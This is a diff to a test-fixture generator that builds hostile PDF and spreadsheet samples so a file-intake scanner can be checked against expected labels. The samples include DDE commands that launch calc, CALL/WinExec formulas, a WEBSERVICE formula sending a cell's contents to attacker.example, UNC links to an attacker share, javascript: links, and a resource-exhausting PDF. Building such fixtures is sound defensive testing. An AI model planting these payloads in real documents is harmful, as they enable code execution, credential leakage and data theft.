@@ -15,6 +15,7 @@ import stat
 import struct
 import sys
 import zipfile
+import zlib
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -133,6 +134,131 @@ def _pdf_with_bytes_inside(payload):
     return pikepdf_pdf(configure=configure, compress_streams=False)
 
 
+def write_many_objects_pdf(path, objects, *, per_stream=1000):
+    """A valid one-page PDF with ``objects`` tiny objects (``[n]``) packed in compressed object streams and an
+    xref stream: a few bytes per object on disk, a lot of work and memory for a parser that walks them all."""
+    entries = {}  # object number -> xref stream row (type, field 2, field 3)
+    with open(path, "wb") as out:
+
+        def direct(number, body):
+            entries[number] = (1, out.tell(), 0)
+            out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+
+        out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+        direct(1, b"<< /Type /Catalog /Pages 2 0 R >>")
+        direct(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
+        direct(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
+        first_stream = 4 + objects
+        for index, start in enumerate(range(4, 4 + objects, per_stream)):
+            numbers = range(start, min(start + per_stream, 4 + objects))
+            bodies = [b"[%d]" % number for number in numbers]
+            offsets, position = [], 0
+            for number, body in zip(numbers, bodies, strict=True):
+                offsets.append(b"%d %d" % (number, position))
+                position += len(body) + 1
+            header = b" ".join(offsets) + b"\n"
+            data = zlib.compress(header + b" ".join(bodies))
+            for slot, number in enumerate(numbers):
+                entries[number] = (2, first_stream + index, slot)
+            direct(
+                first_stream + index,
+                b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+                % (len(numbers), len(header), len(data))
+                + data
+                + b"\nendstream",
+            )
+        xref = max(entries) + 1
+        entries[xref] = (1, out.tell(), 0)
+        rows = b"".join(struct.pack(">BIH", *entries.get(number, (0, 0, 65535))) for number in range(xref + 1))
+        data = zlib.compress(rows)
+        out.write(
+            b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
+            % (xref, xref + 1, len(data))
+            + data
+            + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref][1]
+        )
+    return path
+
+
+def with_fake_trailer(pdf_bytes, payload):
+    """``payload`` appended to a PDF, then a copy of its ``startxref``/``%%EOF``: readers still open the PDF."""
+    start = pdf_bytes.rindex(b"startxref")
+    return pdf_bytes + payload + b"\n" + pdf_bytes[start:]
+
+
+def _action_on_link(action):
+    """A link annotation on the first page whose /A is ``action``."""
+
+    def configure(pdf):
+        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=action)
+        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
+
+    return configure
+
+
+def _annotation(subtype, **entries):
+    def configure(pdf):
+        annotation = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 10, 10]), **entries)
+        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
+
+    return configure
+
+
+def _uri(uri):
+    return _action_on_link(Dictionary(S=Name.URI, URI=String(uri)))
+
+
+def _open_action(action):
+    def configure(pdf):
+        pdf.Root.OpenAction = action
+
+    return configure
+
+
+def _page_aa(pdf):
+    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))
+
+
+def _catalog_aa(pdf):
+    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.Named, N=Name.FirstPage))
+
+
+def _field_aa(pdf):
+    field = pdf.make_indirect(
+        Dictionary(
+            FT=Name.Tx,
+            T=String("name"),
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            Rect=Array([0, 0, 100, 20]),
+            AA=Dictionary(K=Dictionary(S=Name.ResetForm)),
+        )
+    )
+    pdf.pages[0].Annots = pdf.make_indirect(Array([field]))
+    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
+
+
+def _reset_button(pdf):
+    button = pdf.make_indirect(
+        Dictionary(
+            FT=Name.Btn,
+            Ff=65536,
+            T=String("reset"),
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            Rect=Array([0, 0, 100, 20]),
+            A=Dictionary(S=Name.ResetForm),
+        )
+    )
+    pdf.pages[0].Annots = pdf.make_indirect(Array([button]))
+    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
+
+
+def _three_d(pdf):
+    stream = pdf.make_stream(b"U3D", Type=Name("/3D"), Subtype=Name.U3D)
+    _annotation("/3D", **{"3DD": stream})(pdf)
+
+
 # ---- XLSX producers ---------------------------------------------------------------------------------------
 
 
@@ -191,6 +317,98 @@ def _macro_content_types(xml):
     )
 
 
+def _sheet(cells="", after=""):
+    """A worksheet part: ``cells`` inside the first row, ``after`` after the sheet data (hyperlinks, objects)."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
+        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>'
+        f'<row r="1">{cells}</row></sheetData>{after}</worksheet>'
+    )
+
+
+def _formula_xlsx(formula):
+    return minimal_xlsx({"xl/worksheets/sheet1.xml": _sheet(f'<c r="A1"><f>{formula}</f></c>')})
+
+
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _relationships(*items):
+    rows = "".join(
+        f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
+        + (' TargetMode="External"' if external else "")
+        + "/>"
+        for n, (kind, target, external) in enumerate(items, start=1)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        f'relationships">{rows}</Relationships>'
+    )
+
+
+def _hyperlink_xlsx(target):
+    return minimal_xlsx(
+        {
+            "xl/worksheets/sheet1.xml": _sheet(
+                '<c r="A1" t="inlineStr"><is><t>lien</t></is></c>',
+                '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
+            ),
+            "xl/worksheets/_rels/sheet1.xml.rels": _relationships(("hyperlink", target, True)),
+        }
+    )
+
+
+def _workbook_with(relationship, part, data):
+    """The minimal workbook with one more workbook relationship and its part."""
+    return minimal_xlsx(
+        {
+            "xl/_rels/workbook.xml.rels": _relationships(("worksheet", "worksheets/sheet1.xml", False), relationship),
+            part: data,
+        }
+    )
+
+
+EXTERNAL_LINK = (
+    '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
+    f'main"><externalBook xmlns:r="{RELATIONSHIPS}" r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames>'
+    "</externalBook></externalLink>"
+)
+DDE_LINK = (
+    '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
+    'main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
+    "</ddeLink></externalLink>"
+)
+CONNECTIONS = (
+    '<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
+    'main"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/q"/>'
+    "</connection></connections>"
+)
+QUERY_TABLE = (
+    '<?xml version="1.0" encoding="UTF-8"?><queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
+    'main" name="q" connectionId="1"/>'
+)
+LINKED_OLE = _sheet(
+    "",
+    '<oleObjects><oleObject progId="Word.Document.12" link="[1]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/>'
+    "</oleObjects>",
+)
+
+
+def benign_active_xlsx():
+    """What a careful author does use: web and e-mail hyperlinks, ordinary formulas, a structured reference."""
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    sheet.append(["Montant", "Total", "Lien", "Courriel"])
+    sheet.append([10, "=SUM(A2:A4)", "https://www.inami.fgov.be", "secm@example.be"])
+    sheet.append([20, '=IF(A3>5,"grand","petit")', None, None])
+    sheet.append([30, "=Table1[[#This Row],[Montant]]*2", None, None])
+    sheet["C2"].hyperlink = "https://www.inami.fgov.be"
+    sheet["D2"].hyperlink = "mailto:secm@example.be"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
 def zip_bomb_xlsx(path, uncompressed=200 * 1024 * 1024):
     """A small XLSX whose one sheet inflates to ``uncompressed`` bytes of spaces (ratio about 1000:1)."""
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
@@ -214,19 +432,73 @@ def _record(kind, body=b""):
     return struct.pack("<HH", kind, len(body)) + body
 
 
-def biff8_workbook(sheet_type=0x00, password=False):
-    """A minimal BIFF8 workbook stream: globals (BOF, [FILEPASS], BOUNDSHEET, EOF) and one sheet (BOF, EOF)."""
+def biff8_workbook(sheet_type=0x00, password=False, globals_records=b"", sheet_records=b""):
+    """A minimal BIFF8 workbook stream: globals (BOF, [FILEPASS], CODEPAGE, ``globals_records``, BOUNDSHEET, EOF)
+    and one sheet (BOF, ``sheet_records``, EOF)."""
     globals_ = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6))
     if password:
         globals_ += _record(0x002F, b"\x01\x00" + b"\x00" * 52)
     sheet_name = "Feuil1".encode("latin-1")
     globals_ += _record(0x0042, struct.pack("<H", 1252))  # CODEPAGE
+    globals_ += globals_records
     boundsheet_length = 4 + 2 + 2 + len(sheet_name)
     sheet_offset = len(globals_) + 4 + boundsheet_length + 4  # after BOUNDSHEET and EOF
     globals_ += _record(0x0085, struct.pack("<IBBBB", sheet_offset, 0, sheet_type, len(sheet_name), 0) + sheet_name)
     globals_ += _record(0x000A)
-    sheet = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 6)) + _record(0x000A)
-    return globals_ + sheet
+    sheet = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 6))
+    return globals_ + sheet + sheet_records + _record(0x000A)
+
+
+def _biff_string(text):
+    """An XLUnicodeString (16-bit count, compressed latin-1 characters)."""
+    return struct.pack("<H", len(text)) + b"\x00" + text.encode("latin-1")
+
+
+def _supbook(sheets, path):
+    return _record(
+        0x01AE, struct.pack("<H", sheets) + _biff_string(path) + b"".join(_biff_string("S") for _ in range(sheets))
+    )
+
+
+def _formula(rgce):
+    """A FORMULA record in A1 holding the parsed formula ``rgce``."""
+    return _record(0x0006, struct.pack("<HHH", 0, 0, 15) + b"\x00" * 8 + struct.pack("<HIH", 0, 0, len(rgce)) + rgce)
+
+
+def _ptg_string(text):
+    return b"\x17" + bytes([len(text), 0]) + text.encode("latin-1")
+
+
+def _name(name, rgce=b""):
+    return _record(
+        0x0018, struct.pack("<HBBHHH", 0, 0, len(name), len(rgce), 0, 0) + b"\x00" * 4 + b"\x00" + name.encode() + rgce
+    )
+
+
+STD_HLINK = bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b")
+
+
+def _hlink(moniker):
+    """An HLINK record on A1: the standard hyperlink object with ``moniker`` (CLSID and data)."""
+    return _record(0x01B8, struct.pack("<HHHH", 0, 0, 0, 0) + STD_HLINK + struct.pack("<II", 2, 0x03) + moniker)
+
+
+def _url_moniker(url):
+    data = (url + "\x00").encode("utf-16-le")
+    return bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", len(data)) + data
+
+
+def _file_moniker(path):
+    return (
+        bytes.fromhex("0303000000000000c000000000000046")
+        + struct.pack("<HI", 0, len(path) + 1)
+        + path.encode()
+        + b"\x00"
+    )
+
+
+SUM_A1_A3 = b"\x25" + struct.pack("<HHHH", 0, 2, 0, 0) + b"\x22\x01" + struct.pack("<H", 4)  # SUM(A1:A3)
+CALL_WINEXEC = _ptg_string("kernel32") + _ptg_string("WinExec") + b"\x42\x02" + struct.pack("<H", 150)  # CALL(...)
 
 
 def compound_file(tree):
@@ -307,8 +579,13 @@ def compound_file(tree):
     return header + b"".join(sectors)
 
 
-def ole_xls(**workbook):
-    return compound_file({"Workbook": biff8_workbook(**workbook)})
+def ole_xls(extra=None, **workbook):
+    return compound_file({"Workbook": biff8_workbook(**workbook), **(extra or {})})
+
+
+def _ole_object(flags):
+    """An OLE object storage of an XLS (``MBD...``): its ``\\x01Ole`` stream says linked (1) or embedded (0)."""
+    return {"MBD0001A2B3": {"\x01Ole": struct.pack("<IIII", 0x02000001, flags, 0, 0)}}
 
 
 def ole_xls_with_vba():
@@ -393,6 +670,8 @@ CASES = [
     ),
     Case("owner-password.pdf", lambda: pikepdf_pdf(encryption=pikepdf.Encryption(user="", owner="owner")), "encrypted"),
     Case("zero-pages.pdf", lambda: pikepdf_pdf(pages=0), "no_pages"),
+    # resource exhaustion: more objects than INTAKE_PDF_MAX_OBJECTS (200,000), 1.8 MB on disk
+    Case("many-objects.pdf", lambda path: write_many_objects_pdf(path, 210_000), "too_many_objects", streamed=True),
     # active or hidden PDF content
     Case("javascript-names.pdf", lambda: pikepdf_pdf(configure=_javascript_names), "active_content"),
     Case("openaction-js.pdf", lambda: pikepdf_pdf(configure=_open_action_js), "active_content"),
@@ -404,6 +683,62 @@ CASES = [
     Case("annotation-js.pdf", lambda: pikepdf_pdf(configure=_annotation_js), "active_content"),
     Case("launch.pdf", lambda: pikepdf_pdf(configure=_launch), "active_content"),
     Case("embedded-file.pdf", lambda: pikepdf_pdf(configure=_embedded_file), "embedded_files"),
+    Case(
+        "submitform.pdf",
+        lambda: pikepdf_pdf(configure=_action_on_link(Dictionary(S=Name.SubmitForm, F=String("https://x.example")))),
+        "form_actions",
+    ),
+    Case(
+        "importdata.pdf",
+        lambda: pikepdf_pdf(configure=_action_on_link(Dictionary(S=Name.ImportData, F=String("data.fdf")))),
+        "form_actions",
+    ),
+    Case(
+        "resetform-on-open.pdf",
+        lambda: pikepdf_pdf(configure=_open_action(Dictionary(S=Name.ResetForm))),
+        "form_actions",
+    ),
+    Case(
+        "resetform-next-on-open.pdf",
+        lambda: pikepdf_pdf(
+            configure=_open_action(Dictionary(S=Name.Named, N=Name.FirstPage, Next=Dictionary(S=Name.ResetForm)))
+        ),
+        "form_actions",
+    ),
+    Case("resetform-button.pdf", lambda: pikepdf_pdf(configure=_reset_button), None),
+    Case(
+        "gotor-unc.pdf",
+        lambda: pikepdf_pdf(
+            configure=_action_on_link(Dictionary(S=Name.GoToR, F=String("\\\\attacker\\share\\x.pdf"), D=Array([0])))
+        ),
+        "unsafe_link",
+    ),
+    Case(
+        "gotoe.pdf",
+        lambda: pikepdf_pdf(configure=_action_on_link(Dictionary(S=Name.GoToE, F=String("other.pdf"), D=Array([0])))),
+        "unsafe_link",
+    ),
+    Case("uri-file.pdf", lambda: pikepdf_pdf(configure=_uri("file:///C:/Windows/system32/calc.exe")), "unsafe_link"),
+    Case("uri-unc.pdf", lambda: pikepdf_pdf(configure=_uri("\\\\attacker\\share")), "unsafe_link"),
+    Case("uri-javascript.pdf", lambda: pikepdf_pdf(configure=_uri("javascript:alert(1)")), "unsafe_link"),
+    Case("uri-https.pdf", lambda: pikepdf_pdf(configure=_uri("https://www.inami.fgov.be/fr")), None),
+    Case("uri-mailto.pdf", lambda: pikepdf_pdf(configure=_uri("mailto:secm@example.be")), None),
+    Case(
+        "internal-goto.pdf",
+        lambda: pikepdf_pdf(pages=2, configure=_action_on_link(Dictionary(S=Name.Named, N=Name.NextPage))),
+        None,
+    ),
+    Case("aa-page.pdf", lambda: pikepdf_pdf(configure=_page_aa), "automatic_actions"),
+    Case("aa-catalog.pdf", lambda: pikepdf_pdf(configure=_catalog_aa), "automatic_actions"),
+    Case("aa-form-field.pdf", lambda: pikepdf_pdf(configure=_field_aa), "automatic_actions"),
+    Case("richmedia.pdf", lambda: pikepdf_pdf(configure=_annotation("/RichMedia")), "multimedia"),
+    Case("3d.pdf", lambda: pikepdf_pdf(configure=_three_d), "multimedia"),
+    Case(
+        "movie.pdf",
+        lambda: pikepdf_pdf(configure=_annotation("/Movie", Movie=Dictionary(F=String("m.mov")))),
+        "multimedia",
+    ),
+    Case("sound.pdf", lambda: pikepdf_pdf(configure=_annotation("/Sound", Sound=Dictionary())), "multimedia"),
     Case("xfa.pdf", lambda: pikepdf_pdf(configure=_xfa), "xfa_form"),
     # hostile spreadsheets
     Case(
@@ -460,11 +795,124 @@ CASES = [
     ),
     Case("embedded-object.xlsx", lambda: minimal_xlsx({"xl/embeddings/oleObject1.bin": ole_xls()}), "embedded_files"),
     Case("vba.xls", ole_xls_with_vba, "macros"),
+    Case(
+        "external-link-part.xlsx",
+        lambda: _workbook_with(
+            ("externalLink", "externalLinks/externalLink1.xml", False),
+            "xl/externalLinks/externalLink1.xml",
+            EXTERNAL_LINK,
+        ),
+        "external_links",
+    ),
+    Case("external-ref-formula.xlsx", lambda: _formula_xlsx("[1]Sheet1!A1*2"), "external_links"),
+    Case(
+        "external-path-formula.xlsx", lambda: _formula_xlsx("SUM('C:\\data\\[budget.xlsx]S'!A1:A3)"), "external_links"
+    ),
+    Case("dde-formula.xlsx", lambda: _formula_xlsx("cmd|' /C calc'!A0"), "dde"),
+    Case(
+        "dde-link.xlsx",
+        lambda: _workbook_with(
+            ("externalLink", "externalLinks/externalLink1.xml", False), "xl/externalLinks/externalLink1.xml", DDE_LINK
+        ),
+        "dde",
+    ),
+    Case(
+        "data-connection.xlsx",
+        lambda: _workbook_with(("connections", "connections.xml", False), "xl/connections.xml", CONNECTIONS),
+        "data_connections",
+    ),
+    Case(
+        "web-query.xlsx",
+        lambda: minimal_xlsx(
+            {
+                "xl/queryTables/queryTable1.xml": QUERY_TABLE,
+                "xl/worksheets/_rels/sheet1.xml.rels": _relationships(
+                    ("queryTable", "../queryTables/queryTable1.xml", False)
+                ),
+            }
+        ),
+        "data_connections",
+    ),
+    Case(
+        "webservice.xlsx",
+        lambda: _formula_xlsx('_xlfn.WEBSERVICE("https://attacker.example/?"&amp;A2)'),
+        "unsafe_functions",
+    ),
+    Case("filterxml.xlsx", lambda: _formula_xlsx('_xlfn.FILTERXML(B1,"//a")'), "unsafe_functions"),
+    Case("call.xlsx", lambda: _formula_xlsx('CALL("kernel32","WinExec","JCJ","calc",0)'), "unsafe_functions"),
+    Case("register.xlsx", lambda: _formula_xlsx('REGISTER("kernel32","WinExec","JCJ")'), "unsafe_functions"),
+    Case(
+        "defined-name-webservice.xlsx",
+        lambda: minimal_xlsx(
+            {
+                "xl/workbook.xml": MINIMAL_XLSX["xl/workbook.xml"].replace(
+                    "</sheets>",
+                    '</sheets><definedNames><definedName name="x">_xlfn.WEBSERVICE("http://a.example")</definedName></definedNames>',
+                )
+            }
+        ),
+        "unsafe_functions",
+    ),
+    Case("linked-ole.xlsx", lambda: minimal_xlsx({"xl/worksheets/sheet1.xml": LINKED_OLE}), "external_links"),
+    Case(
+        "external-ole-relationship.xlsx",
+        lambda: minimal_xlsx(
+            {"xl/worksheets/_rels/sheet1.xml.rels": _relationships(("oleObject", "file:///C:/x.docx", True))}
+        ),
+        "external_links",
+    ),
+    Case("hyperlink-file.xlsx", lambda: _hyperlink_xlsx("file:///C:/Windows/system32/calc.exe"), "unsafe_link"),
+    Case("hyperlink-unc.xlsx", lambda: _hyperlink_xlsx("\\\\attacker\\share\\x.xlsx"), "unsafe_link"),
+    Case("hyperlink-javascript.xlsx", lambda: _hyperlink_xlsx("javascript:alert(1)"), "unsafe_link"),
+    Case("hyperlink-formula-file.xlsx", lambda: _formula_xlsx('HYPERLINK("file:///C:/x.exe","ouvrir")'), "unsafe_link"),
+    Case("hyperlink-https.xlsx", lambda: _hyperlink_xlsx("https://www.inami.fgov.be"), None),
+    Case("links-and-formulas.xlsx", benign_active_xlsx, None),
+    Case(
+        "external-workbook.xls", lambda: ole_xls(globals_records=_supbook(1, "\x01C\x03budget.xls")), "external_links"
+    ),
+    Case("dde-link.xls", lambda: ole_xls(globals_records=_supbook(0, "cmd\x03/c calc")), "dde"),
+    Case("call-formula.xls", lambda: ole_xls(sheet_records=_formula(CALL_WINEXEC)), "unsafe_functions"),
+    Case("webservice-name.xls", lambda: ole_xls(globals_records=_name("_xlfn.WEBSERVICE")), "unsafe_functions"),
+    Case(
+        "data-connection.xls",
+        lambda: ole_xls(globals_records=_record(0x0876, b"\x76\x08" + b"\x00" * 14)),
+        "data_connections",
+    ),
+    Case("web-query.xls", lambda: ole_xls(sheet_records=_record(0x01AD, b"\x00" * 16)), "data_connections"),
+    Case("hyperlink-file.xls", lambda: ole_xls(sheet_records=_hlink(_file_moniker("C:\\x.exe"))), "unsafe_link"),
+    Case(
+        "hyperlink-javascript.xls",
+        lambda: ole_xls(sheet_records=_hlink(_url_moniker("javascript:alert(1)"))),
+        "unsafe_link",
+    ),
+    Case(
+        "hyperlink-unc.xls", lambda: ole_xls(sheet_records=_hlink(_url_moniker("\\\\attacker\\share"))), "unsafe_link"
+    ),
+    Case("linked-ole.xls", lambda: ole_xls(extra=_ole_object(1)), "external_links"),
+    Case("embedded-ole.xls", lambda: ole_xls(extra=_ole_object(0)), "embedded_files"),
+    Case(
+        "formula-and-link.xls",
+        lambda: ole_xls(
+            globals_records=_record(0x01AE, struct.pack("<HH", 1, 0x0401)),  # internal references
+            sheet_records=_formula(SUM_A1_A3) + _hlink(_url_moniker("https://www.inami.fgov.be")),
+        ),
+        None,
+    ),
     Case("macro-sheet.xls", lambda: ole_xls(sheet_type=0x01), "macros"),
     Case("password.xls", lambda: ole_xls(password=True), "encrypted"),
     Case("truncated.xls", lambda: ole_xls()[:1500], "unreadable"),
     # polyglots
-    Case("pdf-then-zip.pdf", lambda: fpdf_pdf() + openpyxl_xlsx(), "unreadable"),
+    Case("pdf-then-zip.pdf", lambda: fpdf_pdf() + openpyxl_xlsx(), "polyglot"),
+    Case("pdf-zip-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), openpyxl_xlsx()), "polyglot"),
+    Case("pdf-html-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), b"<html><script>x</script>"), "polyglot"),
+    Case("pdf-7z-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), b"7z\xbc\xaf\x27\x1c\x00\x04"), "polyglot"),
+    Case("pdf-ole-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), ole_xls()), "polyglot"),
+    Case("pdf-trailing-whitespace.pdf", lambda: fpdf_pdf() + b"\r\n \n\x00", None),
+    Case("zip-bytes-in-content-stream.pdf", lambda: _pdf_with_bytes_inside(b"PK\x03\x04 PK\x05\x06"), None),
+    Case("xlsx-then-zip.xlsx", lambda: openpyxl_xlsx() + minimal_xlsx(), "polyglot"),
+    Case("xlsx-then-html.xlsx", lambda: openpyxl_xlsx() + b"<html><script>x</script></html>", "polyglot"),
+    Case("xls-then-zip.xls", lambda: ole_xls() + openpyxl_xlsx(), "polyglot"),
+    Case("xls-then-sector.xls", lambda: ole_xls() + openpyxl_xlsx()[:512].ljust(512, b"\x00"), "polyglot"),
     Case("pdf-prefix-zip.xlsx", lambda: fpdf_pdf() + openpyxl_xlsx(), "content_mismatch"),
     Case("html-then-pdf.pdf", lambda: b"<html><script>alert(1)</script></html>\n" + fpdf_pdf(), "content_mismatch"),
     Case("gif-then-zip.xlsx", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + openpyxl_xlsx(), "content_mismatch"),
